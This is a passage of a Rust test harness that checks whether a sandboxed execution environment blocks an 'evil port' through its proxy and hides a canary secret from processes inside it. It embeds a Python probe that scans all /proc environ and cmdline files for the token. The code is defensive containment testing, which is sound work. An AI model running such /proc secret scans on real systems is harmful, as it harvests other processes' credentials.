                    .collect::<Vec<_>>()
                    .join(" | "),
            ),
        ),
    )
    .await;
    t.row(
        "x-app",
        "the X app: the evil port through the proxy",
        (
            out.lines()
                .any(|l| l.starts_with("PROXY HTTP/1.1 403 Forbidden | hands policy: ")),
            short(
                &out.lines()
                    .filter(|l| l.starts_with("PROXY"))
                    .collect::<Vec<_>>()
                    .join(" | "),
            ),
        ),
    )
    .await;
}

async fn at_hands_environment(t: &mut Team, holder: u32) {
    let tok = t.token.clone();
    let (first, second) = tok.split_at(tok.len() / 2);
    // The token is joined only inside Python, so no command line carries it whole.
    let o = t
        .sh(&format!(
            "python3 -c \"
import glob
t = '{first}' + '{second}'
n = 0
hits = []
for f in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/task/*/environ'):
    try:
        data = open(f, 'rb').read()
    except OSError:
        continue
    n += 1
    if t.encode() in data:
        hits.append(f)
print('READ', n, 'HITS', hits)
\"; env | grep -c {CANARY_ENV}"
        ))
        .await;
    t.row(
        "secrets",
        format!("grep every readable /proc/*/environ and cmdline for {CANARY_ENV}'s value"),
        (
            o.contains("HITS []")
                && !o.contains("READ 0 ")
                && o.trim_end().ends_with("<exit_status>1</exit_status>"),
            short(&o),
        ),
    )
    .await;
    let held = std::fs::read(format!("/proc/{holder}/environ")).unwrap_or_default();
    t.control(
        format!("host: {CANARY_ENV} is in this process and readable in its child's /proc environ"),
        (
            std::env::var(CANARY_ENV).as_deref() == Ok(tok.as_str())
                && String::from_utf8_lossy(&held).contains(&tok),
            format!("{} bytes of /proc/{holder}/environ", held.len()),
        ),
    )
    .await;
}

fn report(rows: &[Row], started: Instant) {
    let mut by_kind: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    eprintln!("\n{:<8} {:<4} {:<84} evidence", "kind", "held", "attempt");
    for r in rows {
        let e = by_kind.entry(r.kind).or_default();
        e.1 += 1;
        if r.held {
            e.0 += 1;
        }
        eprintln!(
            "{:<8} {:<4} {:<84} {}",
            r.kind,
            if r.held { "yes" } else { "NO" },
            r.attempt,
            r.evidence
        );
    }
    eprintln!("\nheld/tried by kind:");
    for (kind, (held, tried)) in &by_kind {
        eprintln!("  {kind:<8} {held}/{tried}");
    }
    eprintln!("wall: {:?}", started.elapsed());
    let failed: Vec<&str> = rows
        .iter()
        .filter(|r| !r.held)
        .map(|r| r.attempt.as_str())
        .collect();
    assert!(failed.is_empty(), "attempts that got through: {failed:#?}");
}
